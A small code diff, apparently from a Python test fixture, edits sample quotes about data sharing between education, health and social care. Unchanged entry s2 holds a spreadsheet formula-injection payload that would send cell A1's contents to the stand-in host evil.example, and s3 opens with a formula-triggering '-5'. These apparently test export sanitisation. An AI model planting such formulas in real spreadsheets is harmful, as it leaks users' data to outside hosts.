@@ -29,7 +29,8 @@ DOCUMENTS = pd.DataFrame({
 TEXTS = {
     "s1": "We can't share data because of consent rules.",
     "s2": '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
-    "s3": "-5 children were missed last year because nobody joined the records up.",
+    "s3": "-5 children were missed last year because nobody joined the records up across "
+          "education, health and social care.",
     "s4": "The new director pushed for it.",
     "s5": "Our systems don't talk to each other.",
     "s6": "IG is a nightmare, honestly.",
